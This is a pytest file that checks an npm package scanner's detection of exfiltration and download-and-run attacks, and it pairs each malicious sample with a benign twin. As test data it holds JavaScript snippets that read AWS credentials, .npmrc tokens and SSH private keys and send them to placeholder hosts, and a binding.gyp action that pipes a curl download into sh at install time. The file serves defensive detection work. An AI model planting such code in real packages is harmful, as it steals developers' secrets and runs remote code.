"""Round 9's fresh npm variants, each beside a benign twin (see test_recall_variants_9.py).

Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

import pytest

from app.core.archive import open_bytes
from app.core.capabilities.scan import scan_artifact
from tests.core.capabilities.npm_attacks import Attack

HIGH = ("high", "critical")


def _scan(attack: Attack):
    return scan_artifact(open_bytes(attack.tarball(), f"{attack.name}.tgz"))


# A secret file's text handed to a request, in a function only a user calls (no lifecycle
# script): a trojanised API, as Python's py.net_send_secrets reads it.
SECRET_SENDS = {
    "aws credentials into req.end": (
        "const fs=require('fs'),os=require('os'),https=require('https');\n"
        "exports.init=function(){const k=fs.readFileSync(os.homedir()+'/.aws/credentials','utf8');"
        "https.request({host:'198.51.100.9',method:'POST'}).end(k);};\n"
    ),
    "npmrc as a fetch body": (
        "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n"
        "module.exports = async function sync() {\n"
        "  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
        "  await fetch('https://sync.example.invalid/v1', {method: 'POST', body: token});\n"
        "};\n"
    ),
    "ssh key straight into axios.post": (
        "const axios = require('axios'); const fs = require('fs'); const os = require('os');\n"
        "exports.report = () => axios.post('https://203.0.113.7/r', "
        "{k: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')});\n"
    ),
}


@pytest.mark.parametrize("name", sorted(SECRET_SENDS))
def test_a_secret_file_sent_from_a_library_function_is_exfiltration(name):
    res = _scan(Attack("lib-" + name.split()[0], {"index.js": SECRET_SENDS[name]}, set()))
    assert res.risk.level in HIGH, (name, [t.id for t in res.threats])
    assert any(t.id == "chain.exfiltration" for t in res.threats), [t.id for t in res.threats]


def test_an_npmrc_read_for_its_registry_address_is_no_exfiltration():
    """A release tool reads ~/.npmrc to learn which registry to ask, then asks it: the file's
    text is parsed, never sent."""
    src = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const https = require('https');\n"
        "exports.latest = function (name, cb) {\n"
        "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
        "  const m = rc.match(/registry=(.*)/);\n"
        "  const registry = m ? m[1] : 'https://registry.npmjs.org';\n"
        "  https.get(registry + '/' + name, (res) => cb(res.statusCode));\n"
        "};\n"
    )
    res = _scan(Attack("registry-peek", {"index.js": src}, set()))
    assert res.risk.level not in HIGH, [t.id for t in res.threats]


# npm runs node-gyp rebuild for a package with a binding.gyp and no install script: the
# file's <!(command) expansions and actions run at install.
EVIL_GYP = (
    "{'targets': [{'target_name': 'x', 'sources': ['x.cc'], 'actions': [{'action_name': 'a',"
    " 'inputs': [], 'outputs': ['o'],"
    " 'action': ['sh', '-c', 'curl -s http://192.0.2.3/p | sh']}]}]}\n"
)
ADDON_GYP = (
    "{'targets': [{'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
    "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n"
    "  'defines': ['NAPI_DISABLE_CPP_EXCEPTIONS']}]}\n"
)


def test_a_binding_gyp_that_downloads_and_runs_is_install_time_code():
    res = _scan(
        Attack("gyp-action", {"index.js": "module.exports={};\n", "binding.gyp": EVIL_GYP}, set())
    )
    assert res.risk.level in HIGH, [t.id for t in res.threats]
    assert any(t.id == "chain.download_execute" for t in res.threats)


def test_an_ordinary_native_addon_binding_gyp_stays_quiet():
    files = {"index.js": "module.exports = require('./build/Release/addon.node');\n"}
    res = _scan(Attack("addon", {**files, "binding.gyp": ADDON_GYP}, set()))
    assert res.risk.level not in HIGH, [t.id for t in res.threats]
